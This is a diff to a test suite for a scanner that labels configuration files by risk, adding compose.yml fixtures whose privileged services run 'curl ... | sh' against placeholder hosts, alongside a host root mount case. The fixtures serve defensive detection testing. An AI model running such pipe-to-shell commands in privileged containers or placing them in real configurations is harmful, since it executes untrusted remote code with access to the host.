@@ -38,6 +38,16 @@ describe('files that hand some of their text to shells', () => {
       'fetched-code',
     ],
     ['compose.yml', 'services:\n  a:\n    command: [x]\n    privileged: true', 'host-access'],
+    [
+      'compose.yml',
+      'services:\n  a:\n    privileged: true\n    command: ["sh", "-c", "curl -s http://c.invalid | sh"]',
+      'attacking-script',
+    ],
+    [
+      'compose.yml',
+      'services:\n  a:\n    privileged: true\n    command: ["sh", "-c", "curl -s https://tools.invalid/x | sh"]',
+      'fetched-code',
+    ],
     ['compose.yml', 'services:\n  a:\n    command: [x]\n    volumes:\n    - /:/host', 'host-access'],
     [
       'pyproject.toml',
